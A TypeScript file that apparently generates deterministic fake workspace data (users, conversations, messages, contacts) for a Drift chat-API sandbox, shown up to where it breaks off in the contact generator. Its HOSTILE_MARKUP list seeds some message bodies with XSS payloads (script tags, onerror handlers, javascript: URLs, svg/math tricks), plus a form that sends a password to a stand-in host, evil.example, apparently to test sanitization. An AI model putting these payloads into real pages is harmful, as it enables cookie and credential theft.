/**
 * Deterministic seeded data: a small PRNG and the generators of the sandbox's workspace.
 *
 * Everything is a pure function of `(seed, size)`: the same seed and number of conversations give byte-identical
 * data on every run and every machine. Only the few numbers the list needs for ordering and filtering
 * (`createdAt`, `updatedAt`, `status`) are computed up front; every other field of a conversation, its
 * messages and its contact are generated on demand from `(seed, index)`, so 100,000+ conversations cost a few
 * typed arrays, not millions of objects.
 *
 * @example
 * ```ts
 * import { Seed } from "@parley/drift-sandbox"
 *
 * const world = Seed.makeWorld({ seed: 42, conversations: 2000 })
 * const id = Seed.conversationId(world, 0) // ~1e9
 * Seed.conversationIndex(world, id) // 0
 * ```
 *
 * @since 0.1.0
 */
import type { Drift } from "@parley/schema"

// -----------------------------------------------------------------------------
// PRNG
// -----------------------------------------------------------------------------

const TWO_32 = 4_294_967_296

const fmix32 = (h: number): number => {
  h ^= h >>> 16
  h = Math.imul(h, 0x85ebca6b)
  h ^= h >>> 13
  h = Math.imul(h, 0xc2b2ae35)
  h ^= h >>> 16
  return h >>> 0
}

/**
 * A 32-bit hash of a list of non-negative safe integers (murmur3 finalizer over both 32-bit halves of each).
 * Used to derive an independent PRNG stream per entity: `new Prng(hash(seed, stream, index))`.
 *
 * @example
 * ```ts
 * import { Seed } from "@parley/drift-sandbox"
 * Seed.hash(1, 2, 3) === Seed.hash(1, 2, 3) // true
 * ```
 *
 * @since 0.1.0
 */
export const hash = (...values: ReadonlyArray<number>): number => {
  let h = 0x9747b28c
  for (const value of values) {
    const lo = value >>> 0
    const hi = Math.floor(value / TWO_32) >>> 0
    h = fmix32(Math.imul(h ^ lo, 0x9e3779b1) + 0x7f4a7c15)
    h = fmix32(Math.imul(h ^ hi, 0x85ebca77) + 0x165667b1)
  }
  return h
}

/**
 * A small, fast, seeded PRNG (sfc32, seeded through splitmix32). Not cryptographic; deterministic across
 * platforms because it only uses 32-bit integer arithmetic.
 *
 * @example
 * ```ts
 * import { Seed } from "@parley/drift-sandbox"
 *
 * const rng = new Seed.Prng(42)
 * rng.int(1, 6) // a die roll, the same on every run
 * ```
 *
 * @since 0.1.0
 */
export class Prng {
  private a: number
  private b: number
  private c: number
  private d: number

  constructor(seed: number) {
    let s = hash(seed)
    const next = () => {
      s = (s + 0x9e3779b9) | 0
      let z = s
      z = Math.imul(z ^ (z >>> 16), 0x21f0aaad)
      z = Math.imul(z ^ (z >>> 15), 0x735a2d97)
      return (z ^ (z >>> 15)) >>> 0
    }
    this.a = next()
    this.b = next()
    this.c = next()
    this.d = next()
    for (let i = 0; i < 12; i++) this.uint32()
  }

  /** The next 32-bit unsigned integer. */
  uint32(): number {
    const t = (((this.a + this.b) | 0) + this.d) | 0
    this.d = (this.d + 1) | 0
    this.a = this.b ^ (this.b >>> 9)
    this.b = (this.c + (this.c << 3)) | 0
    this.c = (this.c << 21) | (this.c >>> 11)
    this.c = (this.c + t) | 0
    return t >>> 0
  }

  /** A float in `[0, 1)`. */
  next(): number {
    return this.uint32() / TWO_32
  }

  /** An integer in `[min, max]` (both inclusive). */
  int(min: number, max: number): number {
    return min + Math.floor(this.next() * (max - min + 1))
  }

  /** `true` with probability `p`. */
  chance(p: number): boolean {
    return this.next() < p
  }

  /** One element of a non-empty array. */
  pick<A>(items: ReadonlyArray<A>): A {
    return items[Math.floor(this.next() * items.length)]!
  }

  /** An index chosen with the given (non-negative, not all zero) weights. */
  weighted(weights: ReadonlyArray<number>): number {
    let total = 0
    for (const w of weights) total += w
    let r = this.next() * total
    for (let i = 0; i < weights.length; i++) {
      r -= weights[i]!
      if (r < 0) return i
    }
    return weights.length - 1
  }

  /** `count` distinct elements of `items` (all of them when `count >= items.length`), in draw order. */
  sample<A>(items: ReadonlyArray<A>, count: number): Array<A> {
    const pool = items.slice()
    const out: Array<A> = []
    while (out.length < count && pool.length > 0) {
      const i = Math.floor(this.next() * pool.length)
      out.push(pool[i]!)
      pool.splice(i, 1)
    }
    return out
  }
}

// -----------------------------------------------------------------------------
// Wire shapes
// -----------------------------------------------------------------------------

/**
 * A conversation as the sandbox sends it (Drift's wire shape).
 *
 * @since 0.1.0
 */
export type ConversationWire = Drift.ConversationEncoded

/**
 * A message as the sandbox sends it: the raw body, as Drift might store it.
 *
 * @since 0.1.0
 */
export type MessageWire = Drift.MessageEncoded

/**
 * A contact on the wire.
 *
 * @since 0.1.0
 */
export type ContactWire = (typeof Drift.Contact)["Encoded"]

/**
 * A user on the wire.
 *
 * @since 0.1.0
 */
export type UserWire = (typeof Drift.User)["Encoded"]

/**
 * A tag on the wire.
 *
 * @since 0.1.0
 */
export type TagWire = (typeof Drift.ConversationTag)["Encoded"]

/**
 * A conversation status, as the numeric code the store keeps in a `Uint8Array`.
 *
 * @since 0.1.0
 */
export const STATUSES = ["open", "closed", "pending", "bulk_sent"] as const

/**
 * A conversation status.
 *
 * @since 0.1.0
 */
export type Status = (typeof STATUSES)[number]

// -----------------------------------------------------------------------------
// The world
// -----------------------------------------------------------------------------

/** The seeded data ends on 2025-01-31T00:00:00Z and spans the two years before it. */
const DATA_END = Date.UTC(2025, 0, 31)
const DATA_SPAN = 2 * 365 * 86_400_000

const CONVERSATION_ID_BASE = 1_000_000_000
const CONVERSATION_ID_RANGE = 16_000_000_000
const CONTACT_ID_BASE = 1_200_000_000
const CONTACT_ID_STRIDE = 1000
const MESSAGE_ID_BASE = 2_000_000_000_000
const MESSAGE_ID_STRIDE = 64
const ATTACHMENT_ID_BASE = 5_000_000_000

// Independent PRNG streams.
const S_WORLD = 1
const S_CONV_ID = 2
const S_CONV_CORE = 3
const S_CONV_DETAILS = 4
const S_MESSAGES = 5
const S_CONTACT_ID = 6
const S_CONTACT = 7
const S_ODDITIES = 8

/**
 * The fixed parts of a seeded workspace: the organization, its users (some bots), inboxes and playbooks, and
 * the sizes and id strides everything else is derived from.
 *
 * @since 0.1.0
 */
export interface World {
  readonly seed: number
  /** The number of seeded conversations. */
  readonly size: number
  readonly orgId: number
  readonly users: ReadonlyArray<UserWire>
  readonly humanUserIds: ReadonlyArray<number>
  readonly botUserIds: ReadonlyArray<number>
  readonly inboxIds: ReadonlyArray<number>
  readonly playbookIds: ReadonlyArray<number>
  /** The number of seeded contacts. */
  readonly contactCount: number
  /** The gap between consecutive conversation ids (each id adds a seeded jitter below it). */
  readonly idStride: number
  /** The latest timestamp in the seeded data. */
  readonly dataEnd: number
  /** Whether the data holds what Drift sends beyond its documents (see {@link messages} and {@link contact}). */
  readonly oddities: boolean
}

const FIRST_NAMES = [
  "Ada",
  "Grace",
  "Alan",
  "Barbara",
  "Edsger",
  "Margaret",
  "Dennis",
  "Frances",
  "Ken",
  "Radia",
  "Linus",
  "Hedy",
  "Tim",
  "Katherine",
  "Donald",
  "Shafi",
  "Leslie",
  "Sophie",
  "Guido",
  "Anita",
  "Niklaus",
  "Jean",
  "Yukihiro",
  "Mary",
  "Bjarne",
  "Evelyn",
  "Rasmus",
  "Joan",
  "Chloé",
  "Zoë",
  "José",
  "Søren",
  "Aiko",
  "Priya",
  "Chidi",
  "Mateo",
  "Olga",
  "Noor",
  "Kwame",
  "Ingrid"
] as const

const LAST_NAMES = [
  "Lovelace",
  "Hopper",
  "Turing",
  "Liskov",
  "Dijkstra",
  "Hamilton",
  "Ritchie",
  "Allen",
  "Thompson",
  "Perlman",
  "Torvalds",
  "Lamarr",
  "Berners-Lee",
  "Johnson",
  "Knuth",
  "Goldwasser",
  "Lamport",
  "Wilson",
  "van Rossum",
  "Borg",
  "Wirth",
  "Sammet",
  "Matsumoto",
  "Keller",
  "Stroustrup",
  "Boyd",
  "Lerdorf",
  "Clarke",
  "Dubois",
  "O'Neil",
  "García",
  "Kierkegaard",
  "Tanaka",
  "Raman",
  "Okafor",
  "Silva",
  "Petrova",
  "Haddad",
  "Mensah",
  "Larsen"
] as const

const COMPANIES = [
  "Acme Corp",
  "Globex",
  "Initech",
  "Umbrella Health",
  "Stark Industries",
  "Wayne Enterprises",
  "Hooli",
  "Pied Piper",
  "Vandelay Industries",
  "Soylent",
  "Tyrell",
  "Cyberdyne",
  "Wonka Industries",
  "Oceanic Airlines",
  "Massive Dynamic",
  "Aperture Science"
] as const

const DOMAINS = ["example.com", "example.org", "example.net", "mail.example", "corp.example"] as const

const TAGS: ReadonlyArray<TagWire> = [
  { color: "#f5a623", name: "lead" },
  { color: "#4a90e2", name: "support" },
  { color: "#7ed321", name: "billing" },
  { color: "#d0021b", name: "bug" },
  { color: "#9013fe", name: "enterprise" },
  { color: "#ff6f61", name: "churn-risk" },
  { color: "#50e3c2", name: "feature-request" },
  { color: "#e8112d", name: "urgent" },
  { color: "#417505", name: "qualified" },
  { color: "#bd10e0", name: "demo-booked" },
  { color: "#8b572a", name: "partner" },
  { color: "#4a4a4a", name: "spam" }
]

const BOT_NAMES = ["Driftbot", "Booking Bot", "Support Assistant"] as const

const TIME_ZONES = ["America/New_York", "Europe/London", "Europe/Berlin", "Asia/Tokyo", "America/Los_Angeles"] as const
const LOCALES = ["en-US", "en-GB", "de-DE", "fr-FR", "ja-JP", "es-ES"] as const
const ROLES = ["member", "member", "member", "admin", "agent"] as const
const AVAILABILITY = ["AVAILABLE", "OFFLINE", "ON_CALL"] as const

const USER_AGENTS = [
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
  "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
  "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Mobile Safari/537.36"
] as const

const CONTACT_TEXTS = [
  "Hi, I have a question about pricing",
  "Can someone help me reset my password?",
  "Is there an API for exporting conversations?",
  "Thanks!",
  "Hello? Is anyone there?",
  "We're evaluating you vs. a competitor & need a quote by Friday",
  "I was charged twice this month",
  "How do I add a teammate to my account?",
  "The widget doesn't load on Safari",
  "Do you support SSO (SAML)?",
  "ok",
  "Can I book a demo for next Tuesday at 3pm?",
  "Grüße aus Berlin! Habt ihr eine deutsche Dokumentation?",
  "日本語のサポートはありますか？",
  "I love the product <3",
  "Tom &amp; Jerry Ltd. wants 50 seats",
  "Is 5 &lt; 10 users the minimum?",
  "Where can I find my invoices?",
  "Please call me back at +1 555 0100",
  "That worked, thank you so much! 🎉",
  "Can you send the contract to legal@example.com?",
  "Our export keeps timing out after page 40",
  "\"Quotes\" and 'apostrophes' should survive",
  "Line one\nline two\nline three"
] as const

const AGENT_TEXTS = [
  "Hi there! Happy to help.",
  "Thanks for reaching out. Let me check that for you.",
  "I've refunded the duplicate charge; you'll see it in 3-5 business days.",
  "You can add teammates under Settings → Team.",
  "Could you share a screenshot of the error?",
  "Our API docs are at https://devdocs.example.com",
  "I've booked the demo, you'll get a calendar invite shortly.",
  "Closing this one out, feel free to reply if anything else comes up!",
  "Yes, we support SAML SSO on the Enterprise plan.",
  "Let me loop in a colleague from billing.",
  "Glad that worked!",
  "I'll follow up by email."
] as const

const NOTE_TEXTS = [
  "Customer is on the legacy plan, be careful with upgrades",
  "Escalated to engineering, ticket ENG-4821",
  "VIP account, renewal next month",
  "Possible duplicate of an earlier conversation",
  "Spoke to them on the phone; they are happy now"
] as const

const BOT_TEXTS = [
  "Hi there! What brings you here today?",
  "Welcome back! How can we help?",
  "Want to book a meeting with our team?",
  "Before we connect you, what's your work email?",
  "Thanks! Someone will be with you shortly."
] as const

const ALLOWED_MARKUP = [
  "Check <b>this</b> out: <a href=\"https://example.com/docs\">the docs</a>",
  "<em>Thanks</em> for reaching out!",
  "Your invoice is <a href=\"https://billing.example.com/invoices/42\" target=\"_blank\">here</a>",
  "<b>Important:</b> maintenance tonight at 22:00 UTC",
  "We <em>really</em> appreciate it &amp; will get back to you",
  "See <a href='https://example.org/status'>status page</a> for <b>updates</b>"
] as const

const HOSTILE_MARKUP = [
  "<script>alert('xss')</script>Hello there",
  "<img src=x onerror=alert(1)>Can you see this image?",
  "<a href=\"javascript:alert(document.cookie)\">click me</a>",
  "<a href=\" jav&#x09;ascript:alert(1)\">obfuscated link</a>",
  "<svg><script>alert(1)</script></svg>svg trick",
  "<svg onload=alert(1)><circle r=10></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<b onclick=\"alert(1)\" style=\"color:red\">bold but hostile</b>",
  "<iframe src=\"https://evil.example/\"></iframe>embedded",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
  "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data url</a>",
  "<style>body { display: none }</style>styled away",
  "<form action=\"https://evil.example/steal\"><input name=password></form>login",
  "<em><a href=\"vbscript:msgbox(1)\">old school</a></em>"
] as const

const FILE_NAMES = [
  ["screenshot.png", "image/png"],
  ["invoice-2024-11.pdf", "application/pdf"],
  ["error log.txt", "text/plain"],
  ["contract (signed).pdf", "application/pdf"],
  ["photo.jpeg", "image/jpeg"],
  ["export.csv", "text/csv"]
] as const

const BUTTON_SETS: ReadonlyArray<ReadonlyArray<NonNullable<MessageWire["buttons"]>[number]>> = [
  [
    { label: "Pricing", value: "Pricing", type: "reply", style: "primary" },
    { label: "Support", value: "Support", type: "reply" },
    {
      label: "Just browsing",
      value: "Just browsing",
      type: "reply",
      reaction: { type: "replace", message: "No worries!" }
    }
  ],
  [
    { label: "Book a meeting", value: "Book a meeting", type: "reply", style: "primary" },
    { label: "No thanks", value: "No thanks", type: "reply", style: "danger", reaction: { type: "delete" } }
  ],
  [{ label: "Yes", value: "Yes" }, { label: "No", value: "No" }]
]

const EXTRA_ATTRIBUTES: ReadonlyArray<Record<string, unknown>> = [
  { campaignId: 88123, "x-utm-source": "newsletter" },
  { translated: false, originalLanguage: "de" },
  { metadata: { source: "widget", version: 3, flags: ["a", "b"] } },
  { sentiment: 0.82, intent: "pricing" },
  { emailMessageId: "<CAF7x1@mail.example.com>", nested: { deep: { deeper: null } } }
]

/**
 * Builds the fixed parts of a seeded workspace.
 *
 * @example
 * ```ts
 * import { Seed } from "@parley/drift-sandbox"
 *
 * const world = Seed.makeWorld({ seed: 1, conversations: 100 })
 * world.users.some((u) => u.bot) // true
 * ```
 *
 * @since 0.1.0
 */
export const makeWorld = (
  options: { readonly seed: number; readonly conversations: number; readonly oddities?: boolean | undefined }
): World => {
  const seed = options.seed
  const size = Math.max(0, Math.floor(options.conversations))
  const rng = new Prng(hash(seed, S_WORLD))
  const orgId = rng.int(100_000, 999_999)
  const humans = rng.int(8, 18)
  const users: Array<UserWire> = []
  const humanUserIds: Array<number> = []
  const botUserIds: Array<number> = []
  const total = humans + BOT_NAMES.length
  const botSlots = new Set(rng.sample(Array.from({ length: total }, (_, i) => i), BOT_NAMES.length))
  let bots = 0
  for (let j = 0; j < total; j++) {
    const id = 20_000 + j * 40_000 + rng.int(0, 39_999)
    const createdAt = DATA_END - DATA_SPAN - rng.int(30, 900) * 86_400_000
    const updatedAt = DATA_END - rng.int(0, 60) * 86_400_000
    if (botSlots.has(j)) {
      const name = BOT_NAMES[bots++]!
      botUserIds.push(id)
      users.push({
        id,
        orgId,
        name,
        alias: null,
        email: null,
        phone: null,
        locale: "en-US",
        availability: "AVAILABLE",
        role: "bot",
        timeZone: "UTC",
        avatarUrl: `https://avatars.example.com/bots/${id}.png`,
        verified: true,
        bot: true,
        createdAt,
        updatedAt
      })
    } else {
      const first = rng.pick(FIRST_NAMES)
      const last = rng.pick(LAST_NAMES)
      humanUserIds.push(id)
      users.push({
        id,
        orgId,
        name: `${first} ${last}`,
        alias: rng.chance(0.4) ? first : null,
        email: `${slug(first)}.${slug(last)}@acme.example`,
        phone: rng.chance(0.3) ? `+1 555 01${String(rng.int(0, 99)).padStart(2, "0")}` : null,
        locale: rng.pick(LOCALES),
        availability: rng.pick(AVAILABILITY),
        role: rng.pick(ROLES),
        timeZone: rng.pick(TIME_ZONES),
        avatarUrl: rng.chance(0.7) ? `https://avatars.example.com/${id}.png` : null,
        verified: rng.chance(0.9),
        bot: false,
        createdAt,
        updatedAt
      })
    }
  }
  const inboxIds = distinctSorted(rng, rng.int(2, 4), 100_000, 199_999)
  const playbookIds = distinctSorted(rng, rng.int(6, 12), 1_000_000, 2_999_999)
  return {
    seed,
    size,
    orgId,
    users,
    humanUserIds,
    botUserIds,
    inboxIds,
    playbookIds,
    contactCount: Math.max(1, Math.ceil(size * 0.8)),
    idStride: Math.max(2, Math.floor(CONVERSATION_ID_RANGE / Math.max(1, size))),
    dataEnd: DATA_END,
    oddities: options.oddities === true
  }
}

const distinctSorted = (rng: Prng, count: number, min: number, max: number): Array<number> => {
  const set = new Set<number>()
  while (set.size < count) set.add(rng.int(min, max))
  return Array.from(set).toSorted((a, b) => a - b)
}

const slug = (s: string): string =>
  s.normalize("NFKD").replace(/[\u0300-\u036f]/g, "").toLowerCase().replace(/[^a-z]/g, "")

// -----------------------------------------------------------------------------
// Conversations
// -----------------------------------------------------------------------------

/**
 * The id of the conversation at `index`: increasing with the index (like Drift's, which grow with time),
 * between ~1e9 and ~1.7e10 for the seeded ones, always below 2^53. Conversations created at run time continue
 * the same sequence.
 *
 * @since 0.1.0
 */
export const conversationId = (world: World, index: number): number =>
  CONVERSATION_ID_BASE + index * world.idStride + (hash(world.seed, S_CONV_ID, index) % world.idStride)

/**
 * The index a conversation id was generated for, or `undefined` when no index generates it (the caller still
 * checks the index exists).
 *
 * @since 0.1.0
 */
export const conversationIndex = (world: World, id: number): number | undefined => {
  if (!Number.isSafeInteger(id) || id < CONVERSATION_ID_BASE) return undefined
  const index = Math.floor((id - CONVERSATION_ID_BASE) / world.idStride)
  return conversationId(world, index) === id ? index : undefined
}

/**
 * The numbers of a seeded conversation the list needs up front.
 *
 * @since 0.1.0
 */
export interface ConversationCore {
  readonly createdAt: number
  readonly updatedAt: number
  /** An index into {@link STATUSES}. */
  readonly status: number
}

/**
 * The creation time, last update and status of the seeded conversation at `index`. Creation times grow with the
 * index over the two years before {@link World.dataEnd}; most conversations are updated within the hour, a few
 * weeks later.
 *
 * @since 0.1.0
 */
export const conversationCore = (world: World, index: number): ConversationCore => {
  const rng = new Prng(hash(world.seed, S_CONV_CORE, index))
  const start = world.dataEnd - DATA_SPAN
  const createdAt = start + Math.floor(((index + rng.next()) * DATA_SPAN) / Math.max(1, world.size))
  const bucket = rng.weighted([70, 22, 8])
  const duration = bucket === 0
    ? rng.int(5_000, 3_600_000)
    : bucket === 1
    ? rng.int(3_600_000, 3 * 86_400_000)
    : rng.int(3 * 86_400_000, 30 * 86_400_000)
  const cap = world.dataEnd - rng.int(0, 3_600_000)
  const updatedAt = Math.max(createdAt, Math.min(createdAt + duration, cap))
  const status = rng.weighted([30, 50, 12, 8])
  return { createdAt, updatedAt, status }
}

/**
 * The fields of a seeded conversation that are derived on demand.
 *
 * @since 0.1.0
 */
export interface ConversationDetails {
  readonly contactIndex: number
  readonly inboxId: number
  readonly participants: ReadonlyArray<number>
  readonly tags: ReadonlyArray<TagWire>
  readonly relatedPlaybookId: number | undefined
}

/**
 * The contact, inbox, participants, tags and playbook of the seeded conversation at `index`.
 *
 * @since 0.1.0
 */
export const conversationDetails = (world: World, index: number, status: number): ConversationDetails => {
  const rng = new Prng(hash(world.seed, S_CONV_DETAILS, index))
  // Skewed: a few contacts have many conversations.
  const contactIndex = Math.floor(Math.pow(rng.next(), 1.3) * world.contactCount)
  const inboxId = rng.chance(0.7) ? world.inboxIds[0]! : rng.pick(world.inboxIds)
  const relatedPlaybookId = rng.chance(0.3) ? rng.pick(world.playbookIds) : undefined
  const bulk = STATUSES[status] === "bulk_sent"
  const participantCount = bulk ? 1 : rng.weighted([10, 60, 22, 8])
  const participants = rng.sample(world.humanUserIds, participantCount)
  if (relatedPlaybookId !== undefined && world.botUserIds.length > 0) {
    participants.push(rng.pick(world.botUserIds))
  }
  const tags = rng.chance(0.4) ? rng.sample(TAGS, rng.int(1, 3)) : []
  return { contactIndex, inboxId, participants, tags, relatedPlaybookId }
}

/**
 * The number of messages a seeded conversation has: 1 to 40, skewed towards short conversations (median ~6).
 *
 * @since 0.1.0
 */
export const messageCount = (world: World, index: number): number => {
  const rng = new Prng(hash(world.seed, S_MESSAGES, index))
  return 1 + Math.floor(39 * Math.pow(rng.next(), 3))
}

/**
 * The id of the `k`-th seeded message of the conversation at `index`.
 *
 * @since 0.1.0
 */
export const messageId = (index: number, k: number): number => MESSAGE_ID_BASE + index * MESSAGE_ID_STRIDE + k

/**
 * The seeded messages of the conversation at `index`, oldest first: chats from the contact and from users,
 * bot messages with buttons on playbook conversations, private notes, attachments on a few, `context` on most
 * contact messages, `attributes` (with unknown keys on some), and raw bodies: mostly plain text, some allowed
 * markup (`<b>`, `<em>`, `<a href>`), a few hostile (scripts, event handlers, `javascript:` URLs, svg/math
 * tricks), as Drift might store them.
 *
 * @since 0.1.0
 */
export const messages = (
  world: World,
  index: number,
  conversation: {
    readonly id: number
    readonly createdAt: number
    readonly updatedAt: number
    readonly status: number
    readonly details: ConversationDetails
  }
): Array<MessageWire> => {
  const rng = new Prng(hash(world.seed, S_MESSAGES, index))
  const count = 1 + Math.floor(39 * Math.pow(rng.next(), 3))
  const { details } = conversation
  const contactId = contactIdOf(world, details.contactIndex)
  const humans = details.participants.filter((id) => !world.botUserIds.includes(id))
  const bot = details.participants.find((id) => world.botUserIds.includes(id))
  const times = messageTimes(rng, count, conversation.createdAt, conversation.updatedAt)
  const out: Array<MessageWire> = []
  const bulk = STATUSES[conversation.status] === "bulk_sent"
  for (let k = 0; k < count; k++) {
    let author: "contact" | "user" | "bot" | "note"
    if (k === 0) {
      author = bulk && humans.length > 0 ? "user" : bot !== undefined ? "bot" : "contact"
    } else if (humans.length === 0) {
      author = bot !== undefined && rng.chance(0.2) ? "bot" : "contact"
    } else {
      const r = rng.weighted([45, 43, 9, bot !== undefined ? 3 : 0])
      author = r === 0 ? "contact" : r === 1 ? "user" : r === 2 ? "note" : "bot"
    }
    const base = {
      id: messageId(index, k),
      orgId: world.orgId
    }
    const createdAt = times[k]!
    const attachments = rng.chance(0.03) ? [attachment(rng, index, k)] : undefined
    const body = attachments !== undefined && rng.chance(0.4) ? undefined : author === "bot"
      ? rng.pick(BOT_TEXTS)
      : author === "note"
      ? pickBody(rng, NOTE_TEXTS)
      : pickBody(rng, author === "contact" ? CONTACT_TEXTS : AGENT_TEXTS)
    const extra = rng.chance(0.08) ? rng.pick(EXTRA_ATTRIBUTES) : undefined
    if (author === "contact") {
      const context = rng.chance(0.85)
        ? {
          ip: `${rng.pick(["198.51.100", "203.0.113", "192.0.2"])}.${rng.int(1, 254)}`,
          userAgent: rng.pick(USER_AGENTS)
        }
        : undefined
      const previous = out[k - 1]
      const preMessages = k === 1 && previous !== undefined && previous.author.type === "user" && rng.chance(0.7)
        ? [{ userId: previous.author.id, body: previous.body ?? "", createdAt: previous.createdAt }]
        : undefined
      const attributes = preMessages !== undefined || extra !== undefined
        ? { ...(preMessages !== undefined ? { preMessages } : {}), ...extra }
        : undefined
      out.push({
        ...base,
        ...(body !== undefined ? { body } : {}),
        author: { type: "contact", id: contactId, bot: false },
        type: "chat",
        conversationId: conversation.id,
        createdAt,
        ...(context !== undefined ? { context } : {}),
        ...(attributes !== undefined ? { attributes } : {}),
        ...(attachments !== undefined ? { attachments } : {})
      })
    } else {
      const userId = author === "bot" ? bot! : rng.pick(humans.length > 0 ? humans : world.humanUserIds)
      const buttons = author === "bot" && rng.chance(0.6) ? rng.pick(BUTTON_SETS) : undefined
      const attributes = author === "user" && rng.chance(0.1)
        ? { developer_app_id: `app_${hash(world.seed, userId).toString(36)}`, ...extra }
        : extra
      out.push({
        ...base,
        ...(body !== undefined ? { body } : {}),
        author: { type: "user", id: userId, bot: author === "bot" },
        type: author === "note" ? "private_note" : "chat",
        conversationId: conversation.id,
        createdAt,
        ...(buttons !== undefined ? { buttons } : {}),
        ...(attributes !== undefined ? { attributes } : {}),
        ...(attachments !== undefined ? { attachments } : {})
      })
    }
  }
  return world.oddities ? withOddities(world, index, out) : out
}

/**
 * The message types Drift sends beyond `chat` and `private_note`, as the sandbox seeds them with `oddities`:
 * `edit` (a correction of an earlier message, with `editedMessageId` and `editType`), `private_prompt` (a
 * prompt shown to users only), `suggestion` (a reply suggested to the agent), and one type nobody documents.
 *
 * @since 0.2.0
 */
export const ODD_MESSAGE_TYPES = ["edit", "private_prompt", "suggestion", "conversation_summary"] as const

const EDIT_TEXTS = ["Sorry, I meant Thursday, not Tuesday.", "Corrected the link above.", "Typo fixed."] as const
const PROMPT_TEXTS = ["Ask for the order number before escalating.", "This contact has an open invoice."] as const
const SUGGESTION_TEXTS = ["Thanks for reaching out! Could you share your account email?", "Happy to help."] as const

/**
 * Inserts the odd messages into a seeded conversation (from a PRNG stream of their own, so the documented
 * messages stay the same with or without oddities). Their ids use the slots above the 40 documented ones.
 */
const withOddities = (world: World, index: number, seeded: Array<MessageWire>): Array<MessageWire> => {
  const rng = new Prng(hash(world.seed, S_ODDITIES, index))
  if (!rng.chance(0.25)) return seeded
  const out: Array<MessageWire> = []
  let slot = 40
  const odd = (after: MessageWire, fields: Record<string, unknown>): MessageWire =>
    ({
      id: messageId(index, slot++),
      orgId: after.orgId,
      conversationId: after.conversationId,
      createdAt: after.createdAt,
      ...fields
    }) as unknown as MessageWire
  for (const message of seeded) {
    out.push(message)
    if (slot >= MESSAGE_ID_STRIDE - 1) continue
    const r = rng.next()
    if (message.author.type === "user" && message.type === "chat" && !message.author.bot && r < 0.12) {
      out.push(odd(message, {
        type: "edit",
        author: message.author,
        body: rng.pick(EDIT_TEXTS),
        editedMessageId: message.id,
        editType: rng.chance(0.8) ? "edit" : "delete"
      }))
    } else if (message.author.type === "contact" && r < 0.06) {
      out.push(odd(message, {
        type: "suggestion",
        author: {
          type: "user",
          id: rng.pick(world.botUserIds.length > 0 ? world.botUserIds : world.humanUserIds),
          bot: true
        },
        body: rng.pick(SUGGESTION_TEXTS)
      }))
    } else if (message.author.type === "contact" && r < 0.1) {
      out.push(odd(message, {
        type: "private_prompt",
        author: {
          type: "user",
          id: rng.pick(world.botUserIds.length > 0 ? world.botUserIds : world.humanUserIds),
          bot: true
        },
        body: rng.pick(PROMPT_TEXTS)
      }))
    } else if (r > 0.985) {
      out.push(odd(message, {
        type: "conversation_summary",
        author: { type: "user", id: rng.pick(world.humanUserIds), bot: false },
        body: "Summary: the contact asked about billing; resolved."
      }))
    }
  }
  return out
}

const messageTimes = (rng: Prng, count: number, from: number, to: number): Array<number> => {
  const times = [from]
  const inner: Array<number> = []
  for (let k = 1; k < count - 1; k++) inner.push(from + Math.floor(rng.next() * (to - from)))
  inner.sort((a, b) => a - b)
  times.push(...inner)
  if (count > 1) times.push(to)
  return times
}

const pickBody = (rng: Prng, plain: ReadonlyArray<string>): string => {
  const r = rng.next()
  if (r < 0.04) return rng.pick(HOSTILE_MARKUP)
  if (r < 0.14) return rng.pick(ALLOWED_MARKUP)
  return rng.pick(plain)
}

const attachment = (rng: Prng, index: number, k: number) => {
  const [fileName, mimeType] = rng.pick(FILE_NAMES)
  const id = ATTACHMENT_ID_BASE + index * MESSAGE_ID_STRIDE + k
  return { id, fileName, mimeType, url: `https://files.example.com/attachments/${id}/${encodeURIComponent(fileName)}` }
}

// -----------------------------------------------------------------------------
// Contacts
// -----------------------------------------------------------------------------

/**
 * The id of the contact at `index` (seeded contacts first, then contacts created at run time).
 *
 * @since 0.1.0
 */
export const contactIdOf = (world: World, index: number): number =>
  CONTACT_ID_BASE + index * CONTACT_ID_STRIDE + (hash(world.seed, S_CONTACT_ID, index) % CONTACT_ID_STRIDE)

/**
 * The index a contact id was generated for, or `undefined`.
 *
 * @since 0.1.0
 */
export const contactIndexOf = (world: World, id: number): number | undefined => {
  if (!Number.isSafeInteger(id) || id < CONTACT_ID_BASE) return undefined
  const index = Math.floor((id - CONTACT_ID_BASE) / CONTACT_ID_STRIDE)
  return contactIdOf(world, index) === id ? index : undefined
}

interface ContactNames {
  readonly first: string
  readonly last: string
  readonly email: string | null
}

const contactNames = (index: number, rng: Prng): ContactNames => {
  const first = rng.pick(FIRST_NAMES)
  const last = rng.pick(LAST_NAMES)
  const email = rng.chance(0.9) ? `${slug(first)}.${slug(last)}${index}@${rng.pick(DOMAINS)}` : null
  return { first, last, email }
}

/**
 * The seeded contact at `index`: email (on most; unique, it embeds the index), name, phone and external id on
 * some, and extra attribute keys (`company`, `lead_stage`, `start_date`, ...).
 *
 * @since 0.1.0
 */
export const contact = (world: World, index: number): ContactWire => {
  const rng = new Prng(hash(world.seed, S_CONTACT, index))
  const { email, first, last } = contactNames(index, rng)
  const createdAt = world.dataEnd - DATA_SPAN - rng.int(0, 365) * 86_400_000 - rng.int(0, 86_399_999)
  const attributes: Record<string, unknown> = {
    email,
    name: rng.chance(0.85) ? `${first} ${last}` : null,
    phone: rng.chance(0.3) ? `+44 20 7946 0${String(rng.int(0, 999)).padStart(3, "0")}` : null,
    externalId: rng.chance(0.2) ? `crm-${hash(world.seed, index).toString(16)}` : null
  }
  if (rng.chance(0.6)) attributes.company = rng.pick(COMPANIES)
  if (rng.chance(0.5)) attributes.lead_stage = rng.pick(["Lead", "MQL", "SQL", "Customer"])
  if (rng.chance(0.4)) attributes.start_date = createdAt
